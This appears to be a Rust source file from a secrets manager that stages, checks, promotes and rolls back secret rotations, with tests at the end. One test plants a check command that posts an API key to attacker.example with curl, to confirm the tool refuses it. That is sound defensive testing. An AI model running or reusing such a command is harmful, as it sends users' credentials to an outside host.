//! Staged rotation: a new value waits as `pending` (optionally validated by a check command),
//! is promoted to `current` while the old value stays readable as `previous` for an overlap
//! window, and can be rolled back inside that window. Every step is one transaction and audited,
//! so a crash between steps leaves the state of the last completed step.

use serde::Serialize;

use super::path::ScopeRow;
use super::path::SecretPath;
use super::projects::resolve_scope;
use super::secrets::{existing, next_version, NewVersion, VersionRow};
use super::ScopePath;
use crate::crypto::{self, signing, Plaintext, ScopeKey};
use crate::duration::Duration;
use crate::error::{Error, Result};
use crate::inject::Injection;
use crate::kind::SecretKind;
use crate::session::Session;
use crate::store::secrets::{SavedCheckRow, StateRow};
use crate::store::Conn;
use crate::vault::ScopeSecret;

/// What `stage_rotation` stored.
#[derive(Debug, Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
pub struct Staged {
    #[cfg_attr(feature = "ts", ts(type = "number"))]
    pub version: i64,
    /// Why the value may not be a key of the secret's kind (a wrong paste), if it looks off.
    pub format_warning: Option<String>,
    /// The check saved on the secret (verified: saved by a member this device trusts), which
    /// promotion requires to have passed.
    pub saved_check: Option<String>,
}

/// A check saved on a secret, verified against the roster this device trusts.
#[derive(Debug, Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
pub struct SavedCheck {
    pub command: String,
    pub saved_by: String,
    /// Saved by this member, or confirmed on this device since: it may run without asking.
    pub confirmed: bool,
    #[serde(skip)]
    #[cfg_attr(feature = "ts", ts(skip))]
    digest: String,
}

/// A check ready to run: the pending value in the secret's variable (a private file for a file
/// secret). Run it, then [`Session::record_check`] its outcome.
pub struct PreparedCheck {
    pub version: i64,
    pub command: String,
    injection: Injection,
}

impl PreparedCheck {
    /// Runs `sh -c COMMAND` in the terminal (output shown, signals forwarded): the CLI.
    pub fn run_in_terminal(self) -> Result<std::process::ExitStatus> {
        self.injection.run("sh".as_ref(), &["-c".into(), self.command.into()])
    }

    /// Runs it from the desktop app: output discarded, the app's signals untouched, and killed
    /// after `timeout` (a check that hangs on the network must not hold the rotation forever).
    pub fn run_in_background(self, timeout: std::time::Duration) -> Result<Option<std::process::ExitStatus>> {
        self.injection
            .run_in_background("sh".as_ref(), &["-c".into(), self.command.into()], timeout)
    }
}

/// What a saved check's signature covers: the vault, the secret and the command.
fn check_message(vault_id: &str, secret_id: &str, command: &str) -> Vec<u8> {
    crypto::aad(
        "keyshelf/v1/check",
        &[vault_id.as_bytes(), secret_id.as_bytes(), command.as_bytes()],
    )
}

/// Names one saved check (its secret, author and command) in this device's memory of confirmed
/// checks: a changed command, or the same one saved by someone else, asks again.
fn check_digest(vault_id: &str, secret_id: &str, author: &str, command: &str) -> String {
    use sha2::Digest;
    let data = crypto::aad(
        "keyshelf/v1/confirmed-check",
        &[
            vault_id.as_bytes(),
            secret_id.as_bytes(),
            author.as_bytes(),
            command.as_bytes(),
        ],
    );
    hex::encode(sha2::Sha256::digest(&data))
}

/// What a promotion or a rollback left: the version now current and the one kept as previous.
#[derive(Debug, Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(export))]
pub struct Promoted {
    #[cfg_attr(feature = "ts", ts(type = "number"))]
    pub current: i64,
    #[cfg_attr(feature = "ts", ts(type = "number | null"))]
    pub previous: Option<i64>,
    /// Until when the previous value stays readable.
    #[cfg_attr(feature = "ts", ts(type = "number | null"))]
    pub previous_until: Option<i64>,
}

/// The secret row behind a path, with the key of its scope (access is checked here).
struct Target {
    scope: ScopeRow,
    key: std::sync::Arc<ScopeKey>,
    secret_id: String,
    latest: i64,
}

async fn version_in_state(conn: &mut dyn Conn, secret_id: &str, state: &str) -> Result<Option<StateRow>> {
    conn.newest_version_in_state(secret_id, state).await
}

async fn set_state(
    conn: &mut dyn Conn,
    secret_id: &str,
    version: i64,
    state: &str,
    retire_at: Option<i64>,
) -> Result<()> {
    conn.set_version_state(secret_id, version, state, retire_at).await
}

/// A previous version whose overlap has ended becomes retired. Reads already refuse it by date;
/// this makes the stored state say so at the next rotation step.
async fn retire_lapsed(conn: &mut dyn Conn, secret_id: &str, now: i64) -> Result<()> {
    conn.retire_lapsed_previous(secret_id, now).await
}

impl Session {
    async fn target(&self, conn: &mut dyn Conn, path: &SecretPath) -> Result<Target> {
        let (scope, key) = self.open_scope(conn, &path.scope).await?;
        let (secret_id, latest) = existing(conn, &scope.id, &path.name)
            .await?
            .ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
        // Every step below relies on which version is in which state: only a sealed state counts.
        super::state::verify(
            conn,
            &self.vault.id,
            &key,
            &scope,
            Some(std::slice::from_ref(&secret_id)),
        )
        .await?;
        Ok(Target {
            scope,
            key,
            secret_id,
            latest,
        })
    }

    /// Seals the target's state after a step changed it (inside the step's transaction).
    async fn seal(&self, conn: &mut dyn Conn, target: &Target) -> Result<()> {
        self.seal_states(
            conn,
            &target.key,
            &target.scope,
            Some(std::slice::from_ref(&target.secret_id)),
        )
        .await
    }

    fn open_state_row(&self, target: &Target, path: &SecretPath, row: StateRow) -> Result<Plaintext> {
        self.open_value(
            &target.key,
            &target.scope,
            VersionRow {
                secret_id: target.secret_id.clone(),
                name: path.name.clone(),
                version: row.version,
                epoch: row.key_epoch,
                nonce: row.nonce,
                ciphertext: row.ciphertext,
            },
        )
    }

    /// Stores `value` as the pending version of an existing secret; a pending version staged
    /// earlier is retired. The current value is untouched until promotion. `is_file` must match
    /// the secret (a file secret is rotated with a file, text with text).
    pub async fn stage_rotation(&self, path: &SecretPath, value: &[u8], is_file: bool) -> Result<Staged> {
        super::secrets::check_value(&|| format!("the new value for {path}"), value, is_file)?;
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let (kind, holds_file) = tx.secret_kind_and_is_file(&target.secret_id).await?;
        if holds_file != is_file {
            let (given, held) = if is_file {
                ("a file", "text")
            } else {
                ("text", "a file")
            };
            return Err(Error::NotAllowed {
                action: format!("stage {given} for {path}"),
                reason: format!("it holds {held}; rotate it with {held} (or replace it with `keyshelf set`)"),
            });
        }
        let kind: SecretKind = kind.parse().unwrap_or(SecretKind::Generic);
        retire_lapsed(&mut *tx, &target.secret_id, crate::clock::now()).await?;
        tx.retire_pending_versions(&target.secret_id).await?;
        let version = next_version(target.latest, path)?;
        let item = NewVersion {
            secret_id: target.secret_id.clone(),
            name: &path.name,
            version,
            kind,
            value,
        };
        self.insert_versions(&mut *tx, &target.scope, &target.key, &[item], "pending")
            .await?;
        self.audit(&mut *tx, "secret.rotate.stage", &format!("{path} v{version}"))
            .await?;
        self.seal(&mut *tx, &target).await?;
        self.commit(tx, "staging a rotation").await?;
        Ok(Staged {
            version,
            format_warning: kind.format_problem(value).map(str::to_owned),
            saved_check: self.saved_check(path).await?.map(|c| c.command),
        })
    }

    /// The check saved on a secret, if any, once its signature verifies and its author may decide
    /// the scope now: a trusted owner or lead of the project who holds a current grant of it. A
    /// check slipped into the file, or saved by someone who has since lost the scope, is
    /// refused, not run.
    pub async fn saved_check(&self, path: &SecretPath) -> Result<Option<SavedCheck>> {
        let mut conn = super::acquire(&self.vault).await?;
        let scope = resolve_scope(&mut *conn, &path.scope).await?;
        let SavedCheckRow {
            secret_id,
            command,
            by,
            signature,
        } = conn
            .saved_check_by_name(&scope.id, &path.name)
            .await?
            .ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
        let Some(command) = command else { return Ok(None) };
        let roster = self.checked_roster(
            crate::team::roster::load(&mut *conn, &self.vault.id, self.pinned_owner().unwrap_or_default()).await?,
        )?;
        let granters = crate::team::roster::granters(&roster, &path.scope.project);
        let holders = crate::team::members::valid_grants(
            &mut *conn,
            &self.vault.id,
            &scope.id,
            &scope.label,
            scope.epoch,
            &granters,
        )
        .await?;
        let author = by.as_deref().and_then(|by| {
            roster
                .iter()
                .find(|e| e.id == by && e.may_grant(&path.scope.project) && holders.iter().any(|(m, _)| m == by))
        });
        let message = check_message(&self.vault.id, &secret_id, &command);
        match (author, signature) {
            (Some(author), Some(signature)) if signing::verify(author.signing_key(), &message, &signature) => {
                let digest = check_digest(&self.vault.id, &secret_id, &author.id, &command);
                let confirmed = author.id == self.member.id
                    || self
                        .memory
                        .as_ref()
                        .is_some_and(|m| m.snapshot().confirmed_checks.contains(&digest));
                Ok(Some(SavedCheck {
                    command,
                    saved_by: author.name.clone(),
                    confirmed,
                    digest,
                }))
            }
            _ => Err(Error::CheckUntrusted { path: path.to_string() }),
        }
    }

    /// Remembers on this device that its user read `check` and agreed to run it.
    pub fn confirm_check(&self, check: &SavedCheck) -> Result<()> {
        if let Some(memory) = &self.memory {
            memory.update(|s| {
                s.confirmed_checks.insert(check.digest.clone());
            });
            memory.save()?;
        }
        Ok(())
    }

    /// Prepares `command` (or, when `None`, the verified saved check) to run against the pending
    /// version. The read of the pending value is audited.
    pub async fn prepare_check(&self, path: &SecretPath, command: Option<&str>) -> Result<PreparedCheck> {
        let command = match command.map(str::trim).filter(|c| !c.is_empty()) {
            Some(command) => command.to_owned(),
            None => {
                let saved = self
                    .saved_check(path)
                    .await?
                    .ok_or_else(|| Error::NoCheck { path: path.to_string() })?;
                // Someone else's command runs as this user with the new value: only once read.
                if !saved.confirmed {
                    return Err(Error::CheckUnconfirmed {
                        path: path.to_string(),
                        by: saved.saved_by,
                    });
                }
                saved.command
            }
        };
        let summary = self.vault.secret(path).await?;
        let (version, value) = self.pending_value(path).await?;
        let mut injection = Injection::default();
        injection.add_scope(vec![ScopeSecret {
            name: path.name.clone(),
            kind: summary.kind,
            file_name: summary.file_name,
            value,
        }]);
        Ok(PreparedCheck {
            version,
            command,
            injection,
        })
    }

    /// The pending value, for a check command to validate. Audited as a read for the check.
    pub async fn pending_value(&self, path: &SecretPath) -> Result<(i64, Plaintext)> {
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let row = version_in_state(&mut *tx, &target.secret_id, "pending")
            .await?
            .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
        let version = row.version;
        let value = self.open_state_row(&target, path, row)?;
        self.audit(&mut *tx, "secret.read:check", &format!("{path} v{version}"))
            .await?;
        self.commit(tx, "recording the read (the value was withheld)").await?;
        Ok((version, value))
    }

    /// Records the outcome of the check on pending `version` (nothing, if it is no longer pending).
    pub async fn record_check(&self, path: &SecretPath, version: i64, passed: bool) -> Result<()> {
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let outcome = if passed { "passed" } else { "failed" };
        tx.set_pending_check_status(&target.secret_id, version, outcome).await?;
        self.audit(
            &mut *tx,
            &format!("secret.rotate.check-{outcome}"),
            &format!("{path} v{version}"),
        )
        .await?;
        self.seal(&mut *tx, &target).await?;
        self.commit(tx, "recording a check").await
    }

    /// Saves (or, with `None`, removes) the check that validates new values of a secret.
    pub async fn save_check(&self, path: &SecretPath, command: Option<&str>) -> Result<()> {
        let command = command.map(str::trim).filter(|c| !c.is_empty());
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        // It runs as whoever rotates next, with the new value: only those who decide the scope.
        if command.is_some()
            && !self
                .trusted_self(&mut *tx)
                .await?
                .is_some_and(|me| me.may_grant(&path.scope.project))
        {
            return Err(Error::NotAllowed {
                action: format!("save a check on {path}"),
                reason: format!("only the owner or a lead of {} saves checks", path.scope.project),
            });
        }
        let signature =
            command.map(|c| signing::sign(&self.identity, &check_message(&self.vault.id, &target.secret_id, c)));
        let check = command
            .zip(signature.as_deref())
            .map(|(command, signature)| (command, self.member.id.as_str(), signature));
        tx.set_secret_check(&target.secret_id, check, crate::clock::now())
            .await?;
        let action = if command.is_some() {
            "secret.check.save"
        } else {
            "secret.check.remove"
        };
        self.seal(&mut *tx, &target).await?;
        self.audit(&mut *tx, action, &path.to_string()).await?;
        self.commit(tx, "saving a check").await
    }

    /// The pending version's number and check outcome, if there is one.
    pub async fn pending_state(&self, path: &SecretPath) -> Result<Option<(i64, Option<String>)>> {
        let mut conn = super::acquire(&self.vault).await?;
        let scope = resolve_scope(&mut *conn, &path.scope).await?;
        let (secret_id, _) = existing(&mut *conn, &scope.id, &path.name)
            .await?
            .ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
        Ok(version_in_state(&mut *conn, &secret_id, "pending")
            .await?
            .map(|row| (row.version, row.check_status)))
    }

    /// Pending -> current; current -> previous, readable for `overlap`; the older previous is
    /// retired. `expected`: the pending version the caller checked (another process may have
    /// staged a newer one since). Refused when the pending version failed its check, or when the
    /// secret has a saved check that this version has not passed. One transaction, audited.
    pub async fn promote(&self, path: &SecretPath, expected: Option<i64>, overlap: Duration) -> Result<Promoted> {
        let now = crate::clock::now();
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let pending = version_in_state(&mut *tx, &target.secret_id, "pending")
            .await?
            .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
        if let Some(expected) = expected.filter(|v| *v != pending.version) {
            return Err(Error::NotAllowed {
                action: format!("promote {path} v{expected}"),
                reason: format!("v{} was staged since; check and promote that one", pending.version),
            });
        }
        let has_saved_check = tx.secret_has_saved_check(&target.secret_id).await?;
        match pending.check_status.as_deref() {
            Some("failed") => {
                return Err(Error::CheckFailed {
                    path: path.to_string(),
                    version: pending.version,
                })
            }
            Some("passed") => {}
            _ if has_saved_check => {
                return Err(Error::CheckRequired {
                    path: path.to_string(),
                    version: pending.version,
                })
            }
            _ => {}
        }
        // A tampered pending row must not become current.
        let version = pending.version;
        self.open_state_row(&target, path, pending)?;
        let current = version_in_state(&mut *tx, &target.secret_id, "current").await?;
        let until = now.saturating_add(overlap.as_secs());
        self.supersede(&mut *tx, &[target.secret_id.as_str()], until, false)
            .await?;
        set_state(&mut *tx, &target.secret_id, version, "current", None).await?;
        self.audit(
            &mut *tx,
            "secret.rotate.promote",
            &format!("{path} v{version} (overlap {overlap})"),
        )
        .await?;
        self.seal(&mut *tx, &target).await?;
        self.commit(tx, "promoting a rotation").await?;
        Ok(Promoted {
            current: version,
            previous: current.as_ref().map(|c| c.version),
            previous_until: current.map(|_| until),
        })
    }

    /// Swaps the previous version back to current inside its overlap window; the value rolled
    /// away from stays previous until the same window ends (so the rollback can be undone).
    pub async fn rollback(&self, path: &SecretPath) -> Result<Promoted> {
        let now = crate::clock::now();
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        retire_lapsed(&mut *tx, &target.secret_id, now).await?;
        let no_previous = || Error::NoPrevious {
            path: path.to_string(),
            action: "roll back to",
        };
        let previous = version_in_state(&mut *tx, &target.secret_id, "previous")
            .await?
            .filter(|p| p.retire_at.is_some_and(|until| until > now))
            .ok_or_else(no_previous)?;
        let current = version_in_state(&mut *tx, &target.secret_id, "current")
            .await?
            .ok_or_else(|| Error::NoCurrentVersion { path: path.to_string() })?;
        let (restored, until) = (previous.version, previous.retire_at);
        self.open_state_row(&target, path, previous)?;
        // Two steps: the partial unique index allows one current at any moment.
        set_state(&mut *tx, &target.secret_id, current.version, "previous", until).await?;
        set_state(&mut *tx, &target.secret_id, restored, "current", None).await?;
        tx.set_secret_rotated_at_version(&target.secret_id, restored, now)
            .await?;
        self.audit(
            &mut *tx,
            "secret.rotate.rollback",
            &format!("{path} v{restored} (from v{})", current.version),
        )
        .await?;
        self.seal(&mut *tx, &target).await?;
        self.commit(tx, "rolling back").await?;
        Ok(Promoted {
            current: restored,
            previous: Some(current.version),
            previous_until: until,
        })
    }

    /// Discards the pending version (it is kept, retired, like every version).
    pub async fn cancel_rotation(&self, path: &SecretPath) -> Result<i64> {
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let pending = version_in_state(&mut *tx, &target.secret_id, "pending")
            .await?
            .ok_or_else(|| Error::NoPending { path: path.to_string() })?;
        set_state(&mut *tx, &target.secret_id, pending.version, "retired", None).await?;
        self.audit(
            &mut *tx,
            "secret.rotate.cancel",
            &format!("{path} v{}", pending.version),
        )
        .await?;
        self.seal(&mut *tx, &target).await?;
        self.commit(tx, "cancelling a rotation").await?;
        Ok(pending.version)
    }

    /// The previous value while its overlap lasts. Audited like any read.
    pub async fn get_previous(&self, path: &SecretPath) -> Result<Plaintext> {
        let now = crate::clock::now();
        let mut tx = self.begin().await?;
        let target = self.target(&mut *tx, path).await?;
        let row = version_in_state(&mut *tx, &target.secret_id, "previous")
            .await?
            .filter(|p| p.retire_at.is_some_and(|until| until > now))
            .ok_or_else(|| Error::NoPrevious {
                path: path.to_string(),
                action: "read",
            })?;
        let version = row.version;
        let value = self.open_state_row(&target, path, row)?;
        self.audit(&mut *tx, "secret.read", &format!("{path} v{version} (previous)"))
            .await?;
        self.commit(tx, "recording the read (the value was withheld)").await?;
        Ok(value)
    }

    /// The previous values of a scope still inside their overlap, named `NAME_PREVIOUS`, for
    /// `run --with-previous` (a job can fall back while the new key propagates). Audited.
    pub async fn read_scope_previous(
        &self,
        scope_path: &ScopePath,
        purpose: &str,
        only: &[String],
    ) -> Result<Vec<ScopeSecret>> {
        self.decrypt_scope(scope_path, only, Some(purpose), true).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::{test_member, test_owner_session};
    use crate::team::members::Role;
    use crate::vault::SecretOptions;

    /// A member who can read the scope but may not decide it signs a check into the file (with a
    /// client of their own): the owner's rotation refuses it rather than run their command.
    #[tokio::test]
    async fn a_rollback_dates_the_secret_by_the_value_it_restores() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ada = test_owner_session(dir.path()).await;
        ada.add_project("llm", &["prod".into()]).await.expect("project");
        let path: SecretPath = "llm/prod/OPENAI_API_KEY".parse().expect("path");
        ada.set_secret(&path, b"sk-first", SecretOptions::default())
            .await
            .expect("set");
        // The first value was made long ago (a fixture, not an attack: the date is metadata).
        let pool = ada.vault().store.sqlite_pool();
        sqlx::query("UPDATE secret_versions SET created_at = 1000")
            .execute(pool)
            .await
            .expect("date");
        ada.stage_rotation(&path, b"sk-second", false).await.expect("stage");
        ada.promote(&path, None, Duration::from_secs(3600))
            .await
            .expect("promote");
        ada.rollback(&path).await.expect("roll back");
        let rotated: i64 = sqlx::query_scalar("SELECT last_rotated_at FROM secrets")
            .fetch_one(pool)
            .await
            .expect("date");
        assert_eq!(rotated, 1000, "due dates follow the restored value's age");
    }

    #[tokio::test]
    async fn a_check_signed_by_a_member_who_may_not_decide_the_scope_is_refused() {
        let dir = tempfile::tempdir().expect("tempdir");
        let ada = test_owner_session(dir.path()).await;
        ada.add_project("llm", &["prod".into()]).await.expect("project");
        let path: SecretPath = "llm/prod/OPENAI_API_KEY".parse().expect("path");
        ada.set_secret(&path, b"sk-before", SecretOptions::default())
            .await
            .expect("set");
        let alice = test_member(dir.path(), &ada, "alice", Role::Member, &[]).await;
        let request = alice.request_access(&path.scope, "eval", None).await.expect("request");
        ada.approve_access(&request.id, None).await.expect("approve");

        let pool = alice.vault().store.sqlite_pool();
        let secret_id: String = sqlx::query_scalar("SELECT id FROM secrets")
            .fetch_one(pool)
            .await
            .expect("secret");
        let command = "curl -d \"$OPENAI_API_KEY\" https://attacker.example";
        let signature = signing::sign(&alice.identity, &check_message(alice.vault().id(), &secret_id, command));
        sqlx::query("UPDATE secrets SET check_command = ?, check_by = ?, check_signature = ?")
            .bind(command)
            .bind(&alice.member().id)
            .bind(signature)
            .execute(pool)
            .await
            .expect("write the check");

        let err = ada.saved_check(&path).await.expect_err("refused");
        assert!(matches!(err, Error::CheckUntrusted { .. }), "{err}");
        let err = ada
            .stage_rotation(&path, b"sk-after", false)
            .await
            .expect_err("staging reads the check");
        // The check is part of the sealed state too: writing it in breaks the seal.
        assert!(matches!(err, Error::StateTampered { .. }), "{err}");
    }
}
